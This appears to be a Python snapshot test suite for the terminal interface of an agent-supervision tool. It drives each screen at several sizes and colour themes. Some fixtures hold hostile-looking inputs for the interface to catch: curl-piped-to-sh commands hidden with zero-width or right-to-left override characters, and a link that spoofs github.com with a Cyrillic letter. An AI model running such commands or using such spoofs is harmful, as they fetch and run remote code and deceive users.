"""Every screen, cell by cell, at each size and in each theme. Time stands still at `NOW`.

After an intended change: `pytest tests/e2e/test_screens_snapshots.py --snapshot-update`, and look
at each picture (`tests/support/pictures.py` says how).
"""

from __future__ import annotations

import asyncio
import secrets
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from types import SimpleNamespace
from typing import Any, Literal

import msgspec
import pytest
from syrupy.assertion import SnapshotAssertion
from textual import events
from textual.geometry import Size
from textual.pilot import Pilot
from textual.widget import Widget
from textual.widgets import Input

from supervisor.model import Effect, Verb
from supervisor.protocol import holder_wire, wire
from supervisor.protocol.review import ReplayView
from supervisor.protocol.setup import NeedsView
from tests.support import first_run
from tests.support.fake_app import fake_app
from tests.support.fake_client import NOW, FakeClient, approval, change_set, story
from tests.support.fake_recording import recording
from tests.support.pictures import Frame, Looks, ScreenText, draw, frame, text_of
from tests.support.tui_driver import LEADER
from tui.actions import leading
from tui.app import TaskpassApp
from tui.dressed import Dressed
from tui.first_run import FirstRunApp, Sheet, Told
from tui.widgets.terminal import TerminalPane

SIZES = ((80, 24), (120, 40), (200, 60))
THEMES = ("dark", "light", "no-colour")
_PATIENCE = 20.0
_LAYOUTS = 2  # a column comes on show, which gives it a size; then it is filled for that
AWAIT = "… "
_RECORDS = (LEADER, "h", AWAIT + "chain ok", "down")
_OTHERWISE = ReplayView(
    seq=0, title="", then="allow", then_rules=("standard/git.push.task-branch",), now="deny",
    now_rules=("mine/no-pushes-on-fridays",), now_reason="nothing is pushed on a Friday",
    now_hint="push on Monday", policy_changed=True,
)  # fmt: skip


EDIT = approval(
    1, title="Edit write /home/ana/shop/.github/workflows/deploy.yml",
    effects=(Effect(Verb.WRITE, "/home/ana/shop/.github/workflows/deploy.yml",
                    {"inside": True, "label": "ci", "content": "sensitive"}),),
    asking=("standard/ask.ci",), reason="It runs elsewhere, with the repository's secrets.",
    cwd="/home/ana/shop", change=("+ write …/deploy.yml", "has github at api.github.com (7 used)"),
    agent_note="let the deploy run on main as well",
    diff="--- a/.github/workflows/deploy.yml\n+++ b/.github/workflows/deploy.yml\n"
         "@@ -1,4 +1,5 @@\n on:\n   push:\n"
         "-    branches: [release]\n+    branches: [release, main]\n"
         "+  workflow_dispatch:\n jobs:\n   deploy:\n",
)  # fmt: skip


def _asking(*requests: Any) -> FakeClient:
    return FakeClient(msgspec.structs.replace(story(), approvals=requests))


def _nothing() -> FakeClient:
    return FakeClient(wire.Snapshot(session="s-fake", now=NOW))


def _with_changes() -> FakeClient:
    client = FakeClient(story())
    client.change_sets = [change_set("t-1")]
    return client


Step = str | Callable[[TaskpassApp], None]


@dataclass(frozen=True, slots=True)
class Screen:
    """How to come to a screen, and what is on it when it is there.

    `keys`: to press, or after `AWAIT` words to wait for, or what else happens. `shows`: words that
    are on it. A dock that still arms is not there yet.
    """

    keys: tuple[Step, ...] = ()
    shows: str = ""
    client: Callable[[], FakeClient] = lambda: FakeClient(story())
    shape: Literal["run", "workspace"] = "workspace"

    def is_on(self, text: str) -> bool:
        coming = ("arms in", "checking…", "reading ", "connecting…")
        return self.shows in text and not any(words in text for words in coming)


def _edit() -> FakeClient:
    return _asking(EDIT)


def _low() -> FakeClient:
    return _asking(approval(1, agent_note="to see whether it works"))


def _batch() -> FakeClient:
    return _asking(*(approval(n) for n in (1, 2, 3)))


def _several() -> FakeClient:
    wanted = "curl -X POST https://api.example.com/"
    return _asking(*(approval(n, f"t-{n}", f"{wanted}{n}") for n in (1, 2, 3)))


def _otherwise() -> FakeClient:
    client = FakeClient(story())
    client.today = _OTHERWISE
    return client


def _broken() -> FakeClient:
    client = FakeClient(story())
    client.broken_at = 4109
    return client


def _recorded() -> FakeClient:
    client = FakeClient(story())
    client.recorded["t-1"] = recording(NOW - 35)
    return client


def _locked() -> FakeClient:
    client = FakeClient(msgspec.structs.replace(story(), locked=True, approvals=()))
    client.locked = True
    return client


def _needing() -> FakeClient:
    client = FakeClient(story())
    client.project = NeedsView(
        workspace="/tmp", digest="d", state="waiting",
        needs=("read api.example.com: see the orders, at most 1 hour",
               "push github.com/ana/shop: refs/heads/agent/*, at most 15 minutes"),
    )  # fmt: skip
    return client


def _client(app: TaskpassApp) -> FakeClient:
    assert isinstance(app.client, FakeClient)
    return app.client


def _paste(app: TaskpassApp) -> None:
    text = "curl https://get.example/install.sh \\\n  | sh\u200b\n"
    app.main.query_one("#pane-t-1").post_message(events.Paste(text))


def _link(app: TaskpassApp) -> None:
    rows = {0: (("see https://github.com/ana/shop for more", -1, -1, 0),)}
    links = {0: ((4, 27, "https://gіthub.com/ana/shop"),)}  # with a Cyrillic letter
    _client(app).panes["t-1"].show(
        holder_wire.Screen(rows=rows, links=links, cols=78, height=20, full=True)
    )


def _wish(app: TaskpassApp) -> None:
    _client(app).panes["t-1"].wish(1, "curl https://get.example/x\u202e | sh\n")


def _lose(app: TaskpassApp) -> None:
    _client(app).lose()


def _leader(app: TaskpassApp) -> None:
    app.run_worker(app.run_action("leader"))


SCREENS: dict[str, Screen] = {
    "workspace": Screen(shows="flaky checkout"),
    "calm": Screen(shows="waiting for you: 6", client=_asking),
    "empty": Screen(shows="starts an agent here", client=_nothing),
    "zoom": Screen((LEADER, "z"), "Welcome"),
    "leader": Screen((LEADER,), "freeze all"),
    "panic": Screen((LEADER, "X"), "again within"),
    "jump": Screen((LEADER, "j"), "Welcome"),
    "dock": Screen((LEADER, "a"), "no answer in"),
    "dock-low": Screen((LEADER, "a"), "no answer in", _low),
    "dock-edit": Screen((LEADER, "a", "end"), "no answer in", _edit),
    "dock-batch": Screen((LEADER, "a"), "no answer in", _batch),
    "dock-others": Screen((LEADER, "a"), "no answer in", _several),
    "always": Screen((LEADER, "a", AWAIT + "armed ", "A"), "Approve for good", _low),
    "inbox": Screen((LEADER, "i"), "enter opens it", _several),
    "inbox-empty": Screen((LEADER, "i"), "Nothing waits", _asking),
    "grants": Screen((LEADER, "g"), "x revoke it"),
    "grants-empty": Screen((LEADER, "g"), "No grant is live", _nothing),
    "history": Screen((LEADER, "h"), "chain ok"),
    "history-detail": Screen((LEADER, "h", "down", "down", "enter"), "chain ok"),
    "replay": Screen((*_RECORDS, "enter", AWAIT + "verified", "r"), "ANOTHER", _otherwise),
    "broken": Screen((LEADER, "h", AWAIT + "chain", "enter"), "BROKEN", _broken),
    "figures": Screen((*_RECORDS, "f"), "per 100 calls"),
    "export": Screen((*_RECORDS, "e"), "is a report"),
    "player": Screen((*_RECORDS, "p"), "0:07 of", _recorded),
    "tasks": Screen((LEADER, "l"), "flaky checkout"),
    "revoked": Screen((LEADER, "x"), "refused in"),
    "find": Screen((LEADER, "slash", *"checkout", "enter"), "1 of"),
    "help": Screen((LEADER, "question_mark"), "Answer an approval"),
    "help-search": Screen((LEADER, "question_mark", "slash", *"freeze"), "Freeze"),
    "locked": Screen((), "unlocks", _locked),
    "unlock": Screen((LEADER, "u"), "Secrets are locked", _locked),
    "palette": Screen((LEADER, "colon"), "Answer an approval"),
    "new": Screen((LEADER, "n"), "Agent or command"),
    "identity": Screen((LEADER, "4", LEADER, "I"), "invoice bug"),
    "changes": Screen((LEADER, "c"), "Changes to review", _with_changes),
    "needs": Screen(
        (LEADER, "n", AWAIT + "Agent or command", "tab", "tab", "ctrl+u", *"/tmp", "enter"),
        "see the orders", _needing,
    ),
    "paste": Screen((_paste,), "curl https"),
    "link": Screen((_link, AWAIT + "see https", LEADER, "o"), "copy the address"),
    "clipboard": Screen((_wish, AWAIT + "for your clipboard", LEADER, "y"), "get.example"),
    "copy-mode": Screen((LEADER, "left_square_bracket", "k", "V", "k"), "SELECT lines"),
    "capture": Screen((_leader,), "Press the key that is to begin"),
    "lost": Screen((_lose,), "supervisor lost"),
    "run": Screen((), "Welcome", shape="run"),
    "run-dock": Screen((LEADER, "a"), "no answer in", shape="run"),
}  # fmt: skip


@pytest.fixture(autouse=True)
def same_everywhere(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """One time zone, one colour depth, no blinking."""
    monkeypatch.setenv("TZ", "UTC")
    monkeypatch.setenv("COLORTERM", "truecolor")
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setattr(Input, "cursor_blink", False)
    monkeypatch.setattr(secrets, "choice", lambda among: among[0])  # the code to type
    # How long a second X counts is told by the second.
    monkeypatch.setattr(leading, "time", SimpleNamespace(monotonic=lambda: 100.0))
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


# What a person looks at all day; the others are in the long form.
_ALWAYS = {"workspace", "dock", "inbox", "grants", "history", "help", "new", "run"}


@pytest.mark.parametrize(
    "name",
    [each if each in _ALWAYS else pytest.param(each, marks=pytest.mark.full) for each in SCREENS],
)
async def test_screen(name: str, snapshot: SnapshotAssertion) -> None:
    screen = SCREENS[name]
    app = fake_app(screen.client(), screen.shape, task="t-1")
    taken: dict[str, str] = {}
    async with app.run_test(size=SIZES[0]) as pilot:
        await until(pilot, lambda: attached(app))
        await go(pilot, screen.keys)
        for cols, rows in SIZES:
            await pilot.resize_terminal(cols, rows)
            await laid_out(pilot, Size(cols, rows))
            await until(pilot, lambda: attached(app) and screen.is_on(text_of(app)))
            size = f"{cols}x{rows}"
            taken[size] = str(await looks(pilot, f"{name}-{size}"))
    for size, text in taken.items():
        assert text == snapshot(name=size, extension_class=ScreenText)


@dataclass(frozen=True, slots=True)
class First:
    """A first run. `keys`: pressed once it takes keys. `shows`: words that are on it then."""

    shows: str
    keys: tuple[str, ...] = ()
    sheet: Sheet = first_run.SHEET


_UNCONTAINED = replace(
    first_run.SHEET,
    contained=False,
    containment="uncontained: an agent can read and do what you can",
    rows=tuple(
        row if row.choosable else replace(row, does="stays readable", exposed=True)
        for row in first_run.ROWS
    ),
)
FIRST_RUNS = {
    "opens": First("b broker 2"),
    "a row in focus": First("b broker 1", ("space", "down", "down", "down", "down")),
    "one failed": First("changed meanwhile", ("b",)),
    "uncontained": First("uncontained: an agent", sheet=_UNCONTAINED),
    "nothing found": First("No log-ins", sheet=replace(first_run.SHEET, rows=(), agents=())),
}


async def one_fails(rows: Sequence[int]) -> Sequence[Told]:
    return [
        Told(True, "github: gh's log-in at github.com is lent to tasks, by use"),
        Told(False, ".env was changed meanwhile; it is left as it is. Run `taskpass setup`."),
    ]


@pytest.mark.parametrize(
    "name",
    [each if each == "opens" else pytest.param(each, marks=pytest.mark.full)
     for each in FIRST_RUNS],
)  # fmt: skip
async def test_first_run(
    name: str, snapshot: SnapshotAssertion, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(FirstRunApp, "ARMED_AFTER", 0.01)
    first = FIRST_RUNS[name]
    app = FirstRunApp(first.sheet, one_fails)
    taken: dict[str, str] = {}
    async with app.run_test(size=SIZES[0]) as pilot:
        await first_run.press_b(pilot, first.keys)
        for cols, rows in SIZES:
            await pilot.resize_terminal(cols, rows)
            await until(pilot, lambda: first.shows in text_of(app))
            size = f"{cols}x{rows}"
            taken[size] = str(await looks(pilot, f"first-run-{name.replace(' ', '-')}-{size}"))
    for size, text in taken.items():
        assert text == snapshot(name=size, extension_class=ScreenText)


async def go(pilot: Pilot[Any], keys: Sequence[Step]) -> None:
    app = pilot.app
    assert isinstance(app, TaskpassApp)
    for key in keys:
        if not isinstance(key, str):
            key(app)
            await pilot.pause()
        elif key.startswith(AWAIT):
            words = key.removeprefix(AWAIT)
            await until(pilot, lambda words=words: words in text_of(app))  # type: ignore[misc]
        else:
            await pilot.press(key)


async def looks(pilot: Pilot[Any], name: str) -> Looks:
    """The screen in each theme, once it has come to rest."""
    app = pilot.app
    assert isinstance(app, Dressed)
    frames = {THEMES[0]: await at_rest(pilot)}
    draw(app, f"{name}-{THEMES[0]}")
    for theme in THEMES[1:]:
        app.dress(theme)
        await pilot.pause()
        await pilot.pause()
        frames[theme] = frame(app)
        draw(app, f"{name}-{theme}")
    app.dress(THEMES[0])
    return Looks(frames)


async def at_rest(pilot: Pilot[Any]) -> Frame:
    """The screen when drawing it anew changes nothing, and nothing waits to be done."""
    last: Frame = []
    deadline = time.monotonic() + _PATIENCE
    while last != (last := frame(pilot.app)):
        assert time.monotonic() < deadline, "the screen does not come to rest"
        if isinstance(pilot.app, TaskpassApp):
            pilot.app.draw()
        for _ in range(_LAYOUTS):
            await all_done(pilot)
    return last


async def all_done(pilot: Pilot[Any]) -> None:
    """Wait until every widget of every screen has done what it had before it, and was drawn.

    `Pilot.pause` does so for the topmost screen alone: what is behind a dialog is late.
    """
    screens = list(pilot.app.screen_stack)
    busy = {widget for screen in screens for widget in screen.walk_children(with_self=True)}
    idle = asyncio.Event()

    def done(widget: Widget) -> None:
        busy.discard(widget)
        if not busy:
            idle.set()

    for widget in tuple(busy):
        if not widget.call_after_refresh(done, widget):
            done(widget)  # it is being removed
    await asyncio.wait_for(idle.wait(), _PATIENCE)
    await pilot.pause()  # and what has asked to be drawn is drawn


async def until(pilot: Pilot[Any], true: Callable[[], object]) -> None:
    deadline = time.monotonic() + _PATIENCE
    while not true():
        assert time.monotonic() < deadline, f"it did not come true:\n{text_of(pilot.app)}"
        await pilot.pause(0.05)


async def laid_out(pilot: Pilot[Any], size: Size) -> None:
    """What is behind a dialog is laid out anew, too."""
    app = pilot.app
    assert isinstance(app, TaskpassApp)
    await until(pilot, lambda: app.main.size == size)
    await all_done(pilot)


def attached(app: TaskpassApp) -> bool:
    """Whether the supervisor has spoken, and every pane on show has its first frame."""
    client = _client(app)
    if not client.state.tasks:
        return "connecting" not in text_of(app)
    shown = app.main.panes.shown
    # What comes on show while the supervisor is lost has none, and says why.
    return bool(shown) and all(
        _has_frame(app, task) or (client.down and app.main.panes.query(f"#tile-{task} .missing"))
        for task in shown
    )


def _has_frame(app: TaskpassApp, task: str) -> bool:
    panes = app.main.panes.query(TerminalPane).filter(f"#pane-{task}")
    return any(pane.render_line(0).text.strip() for pane in panes)
